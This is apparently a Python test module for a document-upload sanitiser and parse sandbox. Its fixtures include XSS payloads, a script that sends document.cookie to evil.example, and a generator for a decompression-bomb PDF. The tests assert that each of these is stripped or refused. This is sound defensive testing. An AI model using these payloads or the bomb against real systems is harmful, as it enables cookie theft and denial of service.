"""Upload hardening: parser limits and sanitising (in-process), and the parse sandbox (worker processes).

The sandbox tests start real worker processes and make them hang, spin, hoard memory, crash and
misbehave; each must end in a DocumentRejected with a reason a person can act on, within the limit,
with a fresh worker ready for the next document. Keep this module's imports light: the workers
import it to build `MisbehavingParser`.
"""

from __future__ import annotations

import functools
import os
import signal
import threading
import time
import zlib
from pathlib import Path

import pytest

from app.adapters.parse_sandbox import SandboxedParser
from app.adapters.parsers import FileParser, render_plain_text, strip_executable
from core.errors import DocumentRejected
from core.records import Block, ParsedDocument

REPO = Path(__file__).resolve().parents[2]
HOSTILE = REPO / "tests" / "fixtures" / "hostile_pdfs"
GUIDE = b"# Guide\n\n## Steps\n\n1. Open the app.\n2. Click Start.\n"


# --- hostile inputs built here ------------------------------------------------------------------
def build_pdf(objects: list[bytes]) -> bytes:
    """A PDF with a correct cross-reference table; object 1 is the catalog."""
    out = bytearray(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
    offsets = []
    for number, body in enumerate(objects, start=1):
        offsets.append(len(out))
        out += b"%d 0 obj\n" % number + body + b"\nendobj\n"
    xref = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    out += b"".join(b"%010d 00000 n \n" % offset for offset in offsets)
    out += b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (len(objects) + 1, xref)
    return bytes(out)


_PAGE = (
    b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents %d 0 R "
    b"/Resources << /Font << /F1 << /Type /Font /Subtype /Type1 /BaseFont /Helvetica >> >> >> >>"
)


@functools.lru_cache(maxsize=1)
def deflate_bomb_pdf(inflated_mb: int = 300) -> bytes:
    """~300 KB on disk; its one content stream inflates to `inflated_mb` MB of zero bytes."""
    compressor = zlib.compressobj(9)
    block = bytes(1 << 20)
    stream = b"".join(compressor.compress(block) for _ in range(inflated_mb)) + compressor.flush()
    return build_pdf(
        [
            b"<< /Type /Catalog /Pages 2 0 R >>",
            b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
            _PAGE % 4,
            b"<< /Length %d /Filter /FlateDecode >>\nstream\n" % len(stream) + stream + b"\nendstream",
        ]
    )


def many_pages_pdf(pages: int) -> bytes:
    kids = b" ".join(b"%d 0 R" % (3 + i) for i in range(pages))
    objects = [b"<< /Type /Catalog /Pages 2 0 R >>", b"<< /Type /Pages /Kids [%s] /Count %d >>" % (kids, pages)]
    objects += [_PAGE % (3 + pages)] * pages
    objects.append(b"<< /Length 30 >>\nstream\nBT /F1 12 Tf 72 700 Td (Hi) Tj ET\nendstream")
    return build_pdf(objects)


class MisbehavingParser:
    """Test double the workers build: misbehaves as the file name says, otherwise parses for real."""

    def __init__(self) -> None:
        self._real = FileParser()

    def parse(self, name: str, data: bytes) -> ParsedDocument:
        kind = Path(name).name.split("-")[0]
        if kind == "hang":
            time.sleep(600)
        elif kind == "spin":
            while True:
                pass
        elif kind == "hog":
            hoard = []
            while True:
                hoard.append(bytearray(16 * 1024 * 1024))
        elif kind == "crash":
            os.kill(os.getpid(), signal.SIGSEGV)  # what a bug in a C extension looks like from outside
        elif kind == "bug":
            raise KeyError("/Kids")
        elif kind == "huge":
            return ParsedDocument("Huge", "text", [Block("paragraph", "word " * 2000)])
        elif kind == "forged":
            return ParsedDocument("Forged", "text", [Block("paragraph", "x", level=10_000)])
        return self._real.parse(name, data)


class SlowStartingParser(FileParser):
    """Takes 3 s to build, as a worker started on a busy machine can."""

    def __init__(self) -> None:
        time.sleep(3)
        super().__init__()


@pytest.fixture(scope="module")
def sandbox():
    parser = SandboxedParser(FileParser, timeout_s=5, memory_mb=512)
    yield parser
    parser.close()


@pytest.fixture(scope="module")
def misbehaving():
    parser = SandboxedParser(MisbehavingParser, timeout_s=1.5, memory_mb=256, max_result_bytes=8000)
    yield parser
    parser.close()


def _alive(pid: int) -> bool:
    try:
        os.kill(pid, 0)
    except ProcessLookupError:
        return False
    try:  # reaped between the two looks: gone
        return "zombie" not in Path(f"/proc/{pid}/status").read_text().lower()
    except OSError:
        return False


# --- in-process: limits and sanitising ----------------------------------------------------------
def test_html_event_handlers_and_script_urls_never_become_text():
    html = (
        b'<html><body onload="steal()"><h1>Badges</h1>'
        b"<p onclick=\"alert('click')\">Ask <a href=\"javascript:alert('link')\">reception</a> for one.</p>"
        b"<img src=x onerror=\"alert('img')\"><svg onload=\"alert('svg')\"><text>drawn</text></svg>"
        b"<iframe src=\"javascript:alert('frame')\"></iframe><math><mi>x</mi></math>"
        b"<p>Escaped: &lt;script&gt;alert('entity')&lt;/script&gt; &lt;img src=x onerror=alert(1)&gt; done."
        b' <a href="data:text/html,<script>alert(2)</script>">data link</a></p></body></html>'
    )
    doc = FileParser().parse("badges.html", html)
    text = " ".join([doc.title] + [b.text for b in doc.blocks])
    for payload in ("alert", "steal", "script", "onerror", "onload", "onclick", "javascript", "data:", "drawn"):
        assert payload not in text.lower(), (payload, text)
    assert "Ask reception for one." in text and "Escaped:" in text and "done." in text and "data link" in text


def test_markdown_drops_script_blocks_raw_html_handlers_and_javascript_links():
    md = (
        b"# Printing\n\n<script>\nfetch('https://evil.example/?c=' + document.cookie)\n</script>\n\n"
        b"Press <kbd>Ctrl</kbd>+<kbd>P</kbd> and see [the guide](https://intranet.example/print).\n\n"
        b"Do not click [this](javascript:alert(1)) or <javascript:alert(2)> or <img src=x onerror=alert(3)>.\n\n"
        b'<!-- <script>alert(4)</script> -->\n1. Choose <b onmouseover="alert(5)">Print</b>.\n'
    )
    doc = FileParser().parse("printing.md", md)
    text = " ".join(b.text for b in doc.blocks)
    assert "cookie" not in text and "alert" not in text and "javascript" not in text and "onmouseover" not in text
    assert "Press Ctrl+P and see the guide (https://intranet.example/print)." in text
    assert "Do not click this or or ." in text
    assert doc.blocks[-1].kind == "list_item" and doc.blocks[-1].text == "Choose Print."


def test_harmless_angle_brackets_in_instructions_are_kept():
    assert strip_executable("sign in as BRIGHTWAVE\\<username>") == "sign in as BRIGHTWAVE\\<username>"
    interface = "wlp0s20f3: <BROADCAST,MULTICAST,UP> mtu 1500"
    assert strip_executable(interface) == interface
    assert strip_executable("if a < b and c > d") == "if a < b and c > d"
    assert strip_executable("Enable JavaScript: open Settings") == "Enable JavaScript: open Settings"


@pytest.mark.parametrize(
    "hostile",
    [
        "<scr<script>ipt>alert(1)</scr</script>ipt>",
        "x <script src=//evil.example/x.js",
        "<svg/onload=alert(1)>",
        '<IMG SRC="jav&#x09;ascript:alert(1);">',
        "go to javascript:alert(document.domain)",
        "<a href = 'vbscript:msgbox(1)'>t</a>",
    ],
)
def test_nested_and_unclosed_markup_tricks_leave_nothing_runnable(hostile):
    cleaned = strip_executable(hostile).lower()
    assert "<script" not in cleaned and "<svg" not in cleaned and "<img" not in cleaned
    assert "javascript:" not in cleaned and "vbscript:" not in cleaned and "onload=" not in cleaned


def test_a_script_hidden_behind_a_bracket_in_an_attribute_is_made_inert():
    cleaned = strip_executable('<script data-x="<">alert(1)</script> ok')
    assert "<script" not in cleaned.lower() and cleaned.endswith("ok")


@pytest.mark.parametrize(
    "pathological",
    [
        "<a " + "=" * 200_000 + "<",
        "<script" * 50_000,
        "[a](" * 50_000,
        "<!--" * 50_000,
        "<img " * 50_000 + "x",
        "javascript:" * 30_000,
    ],
)
def test_the_sanitiser_stays_linear_on_pathological_input(pathological):
    # CPU seconds of this process, not the wall clock: other work on a busy machine does not count
    started = time.process_time()
    strip_executable(pathological)
    FileParser().parse("p.md", pathological.encode())
    assert time.process_time() - started < 3  # quadratic behaviour would take minutes


def test_control_characters_never_reach_block_text():
    doc = FileParser().parse("notes.txt", "Reset\x01 the\x1b[31m router\x7f\u0085 now".encode("utf-8"))
    assert doc.blocks[0].text == "Reset the[31m router now"


def test_a_deflate_bomb_pdf_is_refused_by_the_decompression_limit():
    bomb = deflate_bomb_pdf()
    assert len(bomb) < 1_000_000
    with pytest.raises(DocumentRejected) as err:
        FileParser().parse("invoice.pdf", bomb)
    assert err.value.kind == "unparseable"
    assert "decompression bomb" in err.value.reason and "invoice.pdf" in err.value.reason


def test_a_pdf_with_more_pages_than_the_limit_is_refused_as_too_large():
    with pytest.raises(DocumentRejected) as err:
        FileParser(max_pages=50).parse("manual.pdf", many_pages_pdf(60))
    assert err.value.kind == "too_large" and "60 pages" in err.value.reason and "at most 50" in err.value.reason
    assert FileParser(max_pages=60).parse("manual.pdf", many_pages_pdf(60)).blocks  # at the limit: read


@pytest.mark.parametrize("name", ["contact-it-service-desk.pdf", "vpn-setup.md", "wifi.html"])
def test_more_text_than_the_cap_is_refused_as_too_large(name):
    data = (REPO / "kb" / name).read_bytes()
    with pytest.raises(DocumentRejected) as err:
        FileParser(max_text_chars=500).parse(name, data)
    assert err.value.kind == "too_large" and "Split it" in err.value.reason


def test_plain_text_rendering_keeps_headings_and_numbers_steps():
    doc = ParsedDocument(
        "Guide",
        "html",
        [
            Block("heading", "Guide", 1),
            Block("paragraph", "Intro."),
            Block("list_item", "Open", ordered=True),
            Block("list_item", "Click", ordered=True),
            Block("list_item", "sub", level=1),
        ],
    )
    assert render_plain_text(doc) == "# Guide\n\nIntro.\n\n1. Open\n2. Click\n   - sub\n"


# --- the sandbox: real worker processes ----------------------------------------------------------
@pytest.mark.slow
def test_sandboxed_parse_equals_in_process_parse_for_every_kb_file(sandbox):
    files = sorted((REPO / "kb").iterdir())
    assert len(files) >= 20
    for path in files:
        assert sandbox.parse(f"kb/{path.name}", path.read_bytes()) == FileParser().parse(
            f"kb/{path.name}", path.read_bytes()
        ), path.name


@pytest.mark.slow
def test_every_hostile_fixture_is_refused_with_a_reason_or_read_within_the_limit(sandbox):
    files = sorted(HOSTILE.glob("*.pdf"))
    assert len(files) == 8
    outcomes = {}
    for path in files:  # each ends within the sandbox's 5 s (a hang would be refused as "took longer than")
        try:
            outcomes[path.name] = sandbox.parse(path.name, path.read_bytes()).title
        except DocumentRejected as exc:
            assert path.name in exc.reason and exc.kind in ("unsupported_type", "unparseable", "too_large")
            outcomes[path.name] = exc.kind
    assert outcomes["bad1.pdf"] == "unsupported_type"
    assert outcomes["pages-loop.pdf"] == outcomes["broken-lzw.pdf"] == "unparseable"
    assert outcomes["bad-encryption-length.pdf"] == "unparseable"
    assert outcomes["outlines-with-loop.pdf"] not in ("unsupported_type", "unparseable")  # damaged but readable


@pytest.mark.slow
def test_the_bomb_is_refused_by_pypdf_limits_inside_the_sandbox(sandbox):
    with pytest.raises(DocumentRejected, match="decompression bomb"):
        sandbox.parse("bomb.pdf", deflate_bomb_pdf())


@pytest.mark.slow
def test_the_memory_limit_stops_a_bomb_even_without_the_decompression_limit():
    unlimited = functools.partial(FileParser, max_stream_bytes=10**12)
    sandbox = SandboxedParser(unlimited, timeout_s=20, memory_mb=256)
    try:
        with pytest.raises(DocumentRejected) as err:
            sandbox.parse("bomb.pdf", deflate_bomb_pdf())
        assert "more than 256 MB of memory" in err.value.reason and err.value.kind == "unparseable"
        assert sandbox.parse("guide.md", GUIDE).title == "Guide"
    finally:
        sandbox.close()


@pytest.mark.slow
def test_a_hanging_parse_is_killed_at_the_timeout_and_a_fresh_worker_takes_over(misbehaving):
    before = misbehaving.worker_pids()
    with pytest.raises(DocumentRejected) as err:  # the parse sleeps for 600 s: only the timeout ends it
        misbehaving.parse("uploads/hang-report.md", GUIDE)
    assert err.value.kind == "unparseable"
    assert "hang-report.md took longer than 1.5 s to read" in err.value.reason and "re-export" in err.value.reason
    assert misbehaving.worker_pids() != before and not _alive(before[0])
    assert misbehaving.parse("guide.md", GUIDE).title == "Guide"


@pytest.mark.slow
def test_a_worker_slow_to_start_does_not_eat_into_the_documents_time():
    sandbox = SandboxedParser(SlowStartingParser, timeout_s=1, memory_mb=256)
    try:
        assert sandbox.parse("guide.md", GUIDE).title == "Guide"
        killed = sandbox.worker_pids()[0]
        os.kill(killed, signal.SIGKILL)  # its replacement takes 3 s to start as well
        while _alive(killed):
            time.sleep(0.05)
        assert sandbox.parse("guide.md", GUIDE).title == "Guide"
    finally:
        sandbox.close()


@pytest.mark.slow
def test_a_worker_spinning_on_the_cpu_is_stopped_by_its_cpu_limit():
    sandbox = SandboxedParser(MisbehavingParser, timeout_s=60, memory_mb=256, cpu_seconds=1)
    try:
        # stopped by the CPU limit (SIGXCPU), not by the 60 s wall clock, which would say "took longer than"
        with pytest.raises(DocumentRejected, match="more than 1 s of processing time"):
            sandbox.parse("spin-loop.md", GUIDE)
        assert sandbox.parse("guide.md", GUIDE).title == "Guide"
    finally:
        sandbox.close()


@pytest.mark.slow
def test_a_memory_hungry_parse_is_refused_and_the_worker_replaced(misbehaving):
    before = misbehaving.worker_pids()
    with pytest.raises(DocumentRejected) as err:
        misbehaving.parse("hog-sheet.md", GUIDE)
    assert "hog-sheet.md needed more than 256 MB of memory" in err.value.reason
    assert misbehaving.worker_pids() != before
    assert misbehaving.parse("guide.md", GUIDE).title == "Guide"


@pytest.mark.slow
def test_a_crashing_parser_is_a_refusal_and_the_worker_is_replaced(misbehaving):
    with pytest.raises(DocumentRejected) as err:
        misbehaving.parse("crash-dump.md", GUIDE)
    assert err.value.kind == "unparseable" and "stopped unexpectedly while reading crash-dump.md" in err.value.reason
    assert misbehaving.parse("guide.md", GUIDE).title == "Guide"


@pytest.mark.slow
def test_an_unexpected_parser_error_is_a_refusal_and_the_worker_stays(misbehaving):
    before = misbehaving.worker_pids()
    with pytest.raises(DocumentRejected, match="bug-notes.md could not be read .the reader failed: KeyError"):
        misbehaving.parse("bug-notes.md", GUIDE)
    assert misbehaving.worker_pids() == before


@pytest.mark.slow
def test_a_result_larger_than_the_bound_is_refused_as_too_large(misbehaving):
    with pytest.raises(DocumentRejected) as err:
        misbehaving.parse("huge-log.txt", b"x")
    assert err.value.kind == "too_large" and "Split it" in err.value.reason


@pytest.mark.slow
def test_a_malformed_result_from_a_worker_is_not_trusted(misbehaving):
    with pytest.raises(DocumentRejected, match="could not be read"):
        misbehaving.parse("forged-doc.md", b"x")


@pytest.mark.slow
def test_a_worker_killed_between_uploads_is_replaced_transparently(misbehaving):
    os.kill(misbehaving.worker_pids()[0], signal.SIGKILL)
    time.sleep(0.2)
    assert misbehaving.parse("guide.md", GUIDE).title == "Guide"


@pytest.mark.slow
def test_parallel_parses_share_the_worker_pool():
    sandbox = SandboxedParser(FileParser, timeout_s=5, memory_mb=256, workers=2)
    try:
        assert len(set(sandbox.worker_pids())) == 2
        titles: list[str] = []
        threads = [
            threading.Thread(target=lambda: titles.append(sandbox.parse("guide.md", GUIDE).title)) for _ in range(6)
        ]
        for thread in threads:
            thread.start()
        for thread in threads:
            thread.join(30)
        assert titles == ["Guide"] * 6
    finally:
        sandbox.close()


@pytest.mark.slow
def test_close_stops_every_worker():
    sandbox = SandboxedParser(FileParser, timeout_s=5, memory_mb=256, workers=2)
    pids = sandbox.worker_pids()
    sandbox.close()
    sandbox.close()  # idempotent
    time.sleep(0.2)
    assert not any(_alive(pid) for pid in pids)
    with pytest.raises(RuntimeError):
        sandbox.parse("guide.md", GUIDE)


def test_workers_left_for_later_start_at_start_or_at_the_first_parse_and_a_never_started_pool_closes_at_once():
    started_later = SandboxedParser(FileParser, timeout_s=5, memory_mb=256, start=False)
    parsed_first = SandboxedParser(FileParser, timeout_s=5, memory_mb=256, start=False)
    never = SandboxedParser(FileParser, timeout_s=5, memory_mb=256, start=False)
    try:
        time.sleep(0.2)
        assert not any(s.started for s in (started_later, parsed_first, never))  # nothing starts on its own
        started_later.start()
        started_later.start()  # (a second start does nothing)
        assert started_later.wait_ready() and len(started_later.worker_pids()) == 1
        assert parsed_first.parse("guide.md", GUIDE).title == "Guide"  # the first parse starts the pool itself
        closing = time.monotonic()
        never.close()
        assert time.monotonic() - closing < 10 and not never.started  # closing waits for no worker
        with pytest.raises(RuntimeError):
            never.parse("guide.md", GUIDE)
    finally:
        for sandbox in (started_later, parsed_first, never):
            sandbox.close()
